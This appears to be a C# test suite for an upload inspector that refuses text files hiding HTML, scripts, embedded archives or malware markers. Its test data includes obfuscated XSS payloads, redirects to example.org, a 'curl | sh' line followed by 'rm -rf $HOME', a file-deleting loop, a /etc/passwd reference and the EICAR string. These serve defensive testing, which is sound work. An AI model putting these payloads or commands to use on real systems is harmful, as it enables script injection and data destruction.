using System.Text;
using Gatehouse.Inspection.Tests.Judging;

namespace Gatehouse.Inspection.Tests.Text;

public sealed class HostileTextTests
{
    private const string Script = "var a = 1;\nfunction go() {\n  alert(a);\n}\ngo();\n";
    private const string Shell = "cd /tmp\ncurl -s http://example.org | sh\nrm -rf \"$HOME\"\n";
    private const string Prose = "Hello, my order has not come yet.\n";

    public static TheoryData<string, string> Markup => new()
    {
        { "<html>", "text/html" },
        { "  \r\n\t<!DOCTYPE html><p>", "text/html" },
        { "<!-- note --><body>", "text/html" },
        { "<!----><!-- --> <SCRIPT >x", "text/html" },
        { "<a href=\"x\">y</a>", "text/html" },
        { "<custom thing=1>", "text/html" },
        { "<?xml version=\"1.0\"?><a/>", "text/xml" },
        { "<!-- a --> <?xpacket begin='' id='x'?>\n<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", "text/html" },
        { "<?a><?b?><body>", "text/html" },
        { "<?xml version=\"1.0\"?><svg/>", "image/svg+xml" },
        { "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "image/svg+xml" },
        { Prose + "<img src=x onerror=\"alert(1)\">", "text/html" },
        { Prose + "<img src=x onerror\n = alert(1)>", "text/html" },
        { Prose + "<img/src=x/OnError=alert(1)>", "text/html" },
        { Prose + "<img alt=\">\" onload=alert(1)>", "text/html" },
        { Prose + "<!-- <a title=\" --> <img alt=\"<b x='\" onerror=alert(1)>", "text/html" },
        { Prose + "<x srcdoc='y'>", "text/html" },
        { Prose + "<a href=javascript:alert(1)>", "text/html" },
        { Prose + "<a href=\" java\tscript:alert(1)\">", "text/html" },
        { Prose + "<a href='&#106;avascript&colon;alert(1)'>", "text/html" },
        { Prose + "<a href='&#x6A;avascript:alert(1)'>", "text/html" },
        { Prose + "<script>alert(1)</script>", "text/html" },
        { Prose + "<SCRIPT src=x>" + new string(' ', 40_000) + "</Script >", "text/html" },
        { Prose + "<iframe src=x>", "text/html" },
        { Prose + "<object data=x>", "text/html" },
        { Prose + "<!DOCTYPE html>\n<html>\n</html>", "text/html" },
        { "<!-- note --!><body>", "text/html" },
        { Prose + "\n \t<!DOCTYPE html><html>\n</html>", "text/html" },
        { Prose + "<a href=&#106avascript:alert(1)>", "text/html" },
        { Prose + "<a href=j&#x61vascript:alert(1)>", "text/html" },
        { Prose + "<a href='&#0000000000000000106;avascript&#58alert(1)'>", "text/html" },
        { Prose + "<a href='javascript&#x3Avoid 0'>", "text/html" },
        { Prose + "<svg><a><animate attributeName=href values='x;javascript:alert(1)'/>", "text/html" },
        { Prose + "<svg><script href=//example.org/x />", "text/html" },
        { Prose + "<svg><script xlink:href='data:,alert(1)'/>", "text/html" },
        { Prose + "<base href=//example.org/>", "text/html" },
        { Prose + "<BASE target=x href='https://example.org/'>", "text/html" },
        { Prose + "<base href='\\\\example.org'>", "text/html" },
        { Prose + "<meta content='0;url=//example.org' http-equiv=Refresh>", "text/html" },
        { Prose + "<form method=post action='//example.org'>", "text/html" },
        { Prose + "<applet code=x>", "text/html" },
        { Prose + "<frame src=x>", "text/html" },
        { Prose + "<hta:application id=x>", "text/html" },
        { Prose + "<base title='<b' href='//example.org/'>", "text/html" },
        { Prose + "<form title=\"<b\" action=\"http://example.org/\">", "text/html" },
        { Prose + "<meta name='<b' http-equiv=refresh content='0;url=x'>", "text/html" },
        { Prose + "<svg><script id='<b' href='//example.org/x' />", "text/html" },
        { Prose + "<base href='&sol;&bsol;example.org/'>", "text/html" },
        { Prose + "<button formaction='https://example.org/'>", "text/html" },
        { "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html" },
        { "+ADwAaAB0AG0AbAA+-", "text/html" },
        { "+/v8-+ADw-html+AD4-", "text/html" },
        { Prose + "<scr+AGkAcA-t>alert(1)</script>", "text/html" },
        { Prose + "<img src=x +AG8AbgBlAHIAcgBvAHI-=alert(1)>", "text/html" },
        { Prose + "+" + Convert.ToBase64String(Encoding.BigEndianUnicode.GetBytes(new string('é', 48) + "<script>")) + "-x</script>", "text/html" },
        { "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "text/calendar" },
        { "begin:vcard\n", "text/vcard" },
        { "#EXTM3U\n", "application/vnd.apple.mpegurl" },
        { "BEGIN:VCARD;X=1\n", "text/vcard" },
        { "ffconcat version 1.0\nfile /etc/passwd\n", "application/vnd.apple.mpegurl" },
        { "ID;PWXL;N;E\nC;X1;Y1;K0\nE\n", "application/x-sylk" },
        { "#define x_width 8\n", "image/x-xbitmap" },
        { "#define\tx_width\t0x10\n", "image/x-xbitmap" },
        { "/* c */\n#define x_width 16\n#define x_height 7\n", "image/x-xbitmap" },
        { "#define x_height 7\n#define x_width 16\n", "image/x-xbitmap" },
        { "{\\rtf1\\ansi hello}", "application/rtf" },
        { "{\\rt hello}", "application/rtf" },
        { "From: <Saved>\nMIME-Version: 1.0\nContent-Type: multipart/related;\n", "multipart/related" },
        { "From: <Saved>\nMIME-Version:1.0\nContent-Type:multipart/related;\n", "multipart/related" },
        { "From: <Saved>\nMIME-Version: 1.0\nContent-Type:\n  multipart/related;\n", "multipart/related" },
        { "From: <Saved>\rMIME-Version\t: 1.0\rContent-Type: (x) Multipart/Related;\r", "multipart/related" },
    };

    public static TheoryData<string> Scripts => new(
        "#!/bin/sh\n",
        "#! /usr/bin/env python3\n",
        "@ECHO OFF\r\ndir\r\n",
        "@echo  off\r\ndir\r\n",
        "@\tECHO\toff & dir\r\n",
        "@(echo off)\r\ndir\r\n",
        "@e^cho off\r\ndir\r\n",
        "rem x\r\n:: y\r\n@echo off\r\n",
        "@setlocal\r\ndir\r\n",
        "=@echo off\r\ndir\r\n",
        ", @echo off\r\ndir\r\n",
        "@cls\r\ndir\r\n",
        "@title x&@echo off\r\ndir\r\n",
        "@\"%ComSpec%\" /c dir\r\n",
        "#!\t/bin/sh\n",
        "@rem It builds all\r\nmake\r\n",
        "%!PS-Adobe-3.0\n",
        "%! hello\nuserdict\n",
        "%!Adobe PostScript\n",
        "[InternetShortcut]\nURL=x\n",
        "[DEFAULT]\nBASEURL=https://example.org/\n[InternetShortcut]\nURL=x\n",
        ";x\n[InternetShortcut.W]\nURL=x\n",
        "x\n[InternetShortcut]\nIconFile=x\n",
        "hello\n[InternetShortcut]\nurl = x\n",
        "# comment\n[Desktop Entry]\nExec=true\n",
        "[Shell]\nCommand=2\nIconFile=x\n",
        "[autorun]\nopen=x.exe\n",
        "WEB\n1\nhttp://example.org/x\n",
        "screen mode id:i:2\nfull address:s:example.org\n",
        "regedit4\n\n[HKEY_CURRENT_USER\\Software]\n",
        ";x\nWindows Registry Editor Version 5.00\n",
        "REGEDIT\nHKEY_CLASSES_ROOT\\x = y\n",
        "PUSH graphic-context viewbox 0 0 1 1",
        "[Desktop Entry]\nExec=true\n",
        "Windows Registry Editor Version 5.00\n",
        "REGEDIT4\n",
        "push graphic-context\n",
        Prose + "<?php echo 1;",
        Prose + "<?= 1 ?>",
        Prose + "<% Response.Write(1) %>",
        Prose + "<!--#exec cmd=\"ls\" -->",
        "var a = 1;\nfunction go() {\n  alert(a);\n}\ngo();\n",
        "import os\nimport sys\n\ndef main():\n    print(os.name)\n\nmain()\n",
        "cd /tmp\ncurl -s http://example.org | sh\nrm -rf \"$HOME\"\n",
        "for f in *; do\n  rm -f \"$f\"\ndone\n",
        "// \"\"\"\n" + Script,
        "// '''\n" + Script,
        "// x::\n " + Script.Replace("\n", "\n ", StringComparison.Ordinal),
        "a('\"\"\"');\n" + Script,
        "~~~\n" + Shell,
        "```\n" + Shell + "```\n",
        "# x::\n " + Shell.Replace("\n", "\n ", StringComparison.Ordinal),
        Script.Replace('\n', '\r'),
        "/*" + new string('x', 30_000) + "*/\n" + Script,
        "/*" + string.Concat(Enumerable.Repeat("Words about it.\n", 1500)) + "*/\n" + Script,
        string.Concat(Enumerable.Repeat(Prose, 490)) + string.Concat(Enumerable.Repeat(Script, 8000)),
        "\"\"\"Words about it,\nin many lines\nthat are prose.\n\"\"\"\n\nfrom os import (\n    getcwd,\n    listdir,\n)\n\n\n@once\ndef files():\n    names = listdir(getcwd())\n    return [n for n in names if n]\n",
        "/*\n  Words about it,\n  in many lines\n  that are prose.\n*/\nimport {\n  first,\n  second,\n} from \"./lists.js\"\n\nexport default async function go(list) {\n  const one = first(list)\n  await second(one)\n    .then(print)\n  return one\n}\n",
        "const colours = [\n  'a red one',\n  'a blue one',\n  'a green one',\n];\ncolours.forEach(print);\nprint(colours.length > 2\n  ? 'many of them'\n  : 'few of them');\n",
        "!function(e){" + string.Concat(Enumerable.Range(0, 60).Select(i => $"e[{i}]=function(){{return e({i})}};")) + "}(this);\n");

    [Theory]
    [MemberData(nameof(Markup))]
    public void Markup_is_no_plain_text_wherever_it_hides(string text, string mime) =>
        Assert.Equal(mime, Judge.Refuses(Encoding.UTF8.GetBytes(text), Reasons.MarkupAsText).DetectedMime);

    [Theory]
    [MemberData(nameof(Markup))]
    public void Markup_is_found_in_UTF16_too(string text, string mime) =>
        Assert.Equal(mime, Judge.Refuses([0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)], Reasons.MarkupAsText).DetectedMime);

    [Theory]
    [MemberData(nameof(Scripts))]
    public void Scripts_are_no_plain_text(string text)
    {
        Judge.Refuses(Encoding.UTF8.GetBytes(text), Reasons.ScriptAsText);
        Assert.Equal(RefusalCode.TypeNotAllowed, Judge.Refuses(Encoding.UTF8.GetBytes(text), Reasons.ScriptAsText).Code);
    }

    [Fact]
    public void Markup_in_UTF16_without_a_mark_is_named() =>
        Judge.Refuses(Encoding.Unicode.GetBytes("<!DOCTYPE html><html>"), Reasons.MarkupAsText);

    [Fact]
    public void Binary_data_that_decode_as_UTF16_are_no_text()
    {
        byte[] noise = [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("\u4E00\u9FFF\u0378")];

        Judge.Refuses(noise, Reasons.BinaryAsText);
        Judge.Refuses([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("ab\u0085")], Reasons.BinaryAsText);
        Judge.Refuses([0xFF, 0xFE, (byte)'a', 0, 0x00, 0xD8, (byte)'b', 0], Reasons.UnknownEncoding);
    }

    [Fact]
    public void A_mark_of_UTF16_before_plain_PHP_hides_it_from_nobody() => Assert.All(Enumerable.Range(0, 8), at =>
    {
        byte[] file = [0xFF, 0xFE, .. Encoding.ASCII.GetBytes(new string('x', at) + "<?php run(); ?>" + new string('x', at + 1))];

        Assert.Equal(at + 2, Judge.Refuses(file, Reasons.ScriptAsText).Offset);
        Assert.Equal(at + 2, Assert.IsType<Verdict.Refuse>(Judge.InPieces(file, [3])).Offset);
    });

    [Fact]
    public void Markup_after_five_thousand_line_ends_is_found() =>
        Judge.Refuses(Encoding.ASCII.GetBytes(new string('\n', 50_000) + "<html>"), Reasons.MarkupAsText);

    [Fact]
    public void A_NUL_anywhere_is_binary_data()
    {
        var refusal = Judge.Refuses([.. Encoding.ASCII.GetBytes(new string('a', 50_000)), 0, .. "end"u8], Reasons.BinaryAsText);
        Assert.Equal((50_000, RefusalCode.TypeNotAllowed), (refusal.Offset, refusal.Code));
    }

    [Fact]
    public void Markup_with_a_NUL_behind_it_is_still_called_markup()
    {
        Judge.Refuses([.. @"{\rtf1\ansi Dear"u8, 0], Reasons.MarkupAsText);
        Judge.Refuses([.. Encoding.ASCII.GetBytes(Prose + "<p onclick=x>"), 0], Reasons.MarkupAsText);
    }

    [Fact]
    public void The_first_thing_found_is_the_answer_however_the_file_is_cut()
    {
        var two = Encoding.ASCII.GetBytes($"{Prose}<p onclick=x>{Prose}<?php {Prose}");
        var rtf = Encoding.ASCII.GetBytes(@"{\rtf1 " + Prose + "<p onclick=x>" + string.Concat(Enumerable.Repeat(Prose, 40)));

        Assert.Equal(Judge.Refuses(two, Reasons.MarkupAsText).Offset, Assert.IsType<Verdict.Refuse>(Judge.InPieces(two, [3])).Offset);
        Assert.Equal("application/rtf", Judge.Refuses(rtf, Reasons.MarkupAsText).DetectedMime);
        Assert.Equal("application/rtf", Assert.IsType<Verdict.Refuse>(Judge.InPieces(rtf, [3])).DetectedMime);
    }

    [Fact]
    public void A_PDF_behind_text_is_a_second_format()
    {
        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"), Reasons.SecondFormat);
        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "%PDF-1.\nobj<<>>\ntrailer\n<</Root<</Pages<<>>>>>>\n"), Reasons.SecondFormat);
        Judge.Accepts(Encoding.ASCII.GetBytes(Prose + "%PDF-1.4 is its first word, and a trailer is what it lacks.\n"));
    }

    [Fact]
    public void A_ZIP_behind_text_is_a_second_format() =>
        Judge.Refuses([.. Encoding.ASCII.GetBytes(Prose), .. "PK\u0003\u0004"u8, 20, 0, 0, 0], Reasons.SecondFormat);

    [Fact]
    public void A_PHP_archive_behind_text_is_a_second_format() =>
        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "__HALT_COMPILER(); and more"), Reasons.SecondFormat);

    [Fact]
    public void The_EICAR_string_is_malware()
    {
        var eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
        Judge.Refuses(Encoding.ASCII.GetBytes(eicar), Reasons.Malware);
        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + eicar + "\n"), Reasons.Malware);
    }

    [Fact]
    public void UTF8_that_ends_inside_a_character_is_cut_short() =>
        Assert.Equal(RefusalCode.ContentDamaged, Judge.Refuses([.. "Grüße aus Köln, f"u8, 0xC3], Reasons.Truncated).Code);

    [Fact]
    public void Bytes_of_no_charset_are_an_unknown_encoding() => Property.Holds(40, random =>
    {
        var noise = new byte[600];
        random.NextBytes(noise);
        for (var i = 0; i < noise.Length; i++)
            noise[i] |= 0x80;
        Assert.Equal(RefusalCode.ContentDamaged, Judge.Refuses([.. "abc "u8, .. noise], Reasons.UnknownEncoding).Code);
    });
}
